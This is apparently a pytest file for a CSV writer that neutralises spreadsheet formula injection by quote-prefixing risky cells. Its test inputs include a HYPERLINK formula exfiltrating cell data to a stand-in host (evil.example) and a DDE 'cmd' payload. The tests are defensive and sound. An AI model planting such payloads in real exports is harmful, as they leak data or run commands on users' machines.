"""CSV cells a spreadsheet would run as formulas are written as text; the rest are written unchanged."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime
from decimal import Decimal

import pytest

from amss.app.csv_cells import FORMULA_LEADS, CsvWriter, cell_text


@pytest.mark.parametrize("lead", FORMULA_LEADS)
def test_a_cell_beginning_with_a_formula_lead_gets_a_quote_prefix(lead: str) -> None:
    assert cell_text(f"{lead}1+1") == f"'{lead}1+1"
    assert cell_text(lead) == f"'{lead}"


def test_the_owasp_leads_are_exactly_the_six_characters() -> None:
    assert set(FORMULA_LEADS) == {"=", "+", "-", "@", "\t", "\r"}


def test_the_hyperlink_payload_of_the_issue_is_neutralised() -> None:
    payload = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert cell_text(payload) == "'" + payload


@pytest.mark.parametrize("text", ["  =1+1", " \u00a0+A1", "\n@SUM(A1)", " -2+3", "\t \r=1"])
def test_leading_blanks_before_a_formula_lead_do_not_hide_it(text: str) -> None:
    assert cell_text(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["", "plain", "N101AM", "a=b", "x-1", "2026-01-01T00:00:00Z", '{"notes": "=1+1"}', "'already", "   "]
)
def test_harmless_text_is_unchanged(text: str) -> None:
    assert cell_text(text) == text


def test_a_string_that_looks_like_a_negative_number_is_still_prefixed() -> None:
    assert cell_text("-5") == "'-5"
    assert cell_text("+5") == "'+5"


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, ""),
        (-5, "-5"),
        (0, "0"),
        (12, "12"),
        (-1.5, "-1.5"),
        (Decimal("-2.50"), "-2.50"),
        (float("-inf"), "-inf"),
    ],
)
def test_numbers_and_none_are_written_as_they_are(value: object, text: str) -> None:
    assert cell_text(value) == text


def test_other_values_go_through_their_text() -> None:
    ident = uuid.UUID("5f0c1b9e-0000-4000-8000-000000000000")
    assert cell_text(ident) == str(ident)
    assert cell_text(True) == "True"
    assert cell_text(datetime(2026, 1, 2, tzinfo=UTC)) == "2026-01-02 00:00:00+00:00"

    class Hostile:
        def __str__(self) -> str:
            return "=cmd|' /C calc'!A0"

    assert cell_text(Hostile()) == "'=cmd|' /C calc'!A0"


def test_the_writer_writes_rfc4180_rows_with_every_cell_neutralised() -> None:
    writer = CsvWriter()
    writer.row(["id", "note"])
    writer.row([1, 'say "hi", then\r\nleave'])
    writer.row([None, "=1+1"])
    data = writer.take()
    assert data == b'id,note\r\n1,"say ""hi"", then\r\nleave"\r\n,\'=1+1\r\n'
    assert list(csv.reader(io.StringIO(data.decode(), newline=""))) == [
        ["id", "note"],
        ["1", 'say "hi", then\r\nleave'],
        ["", "'=1+1"],
    ]
    assert writer.take() == b""
    writer.row(["\r=x"])
    assert writer.take() == b'"\'\r=x"\r\n'
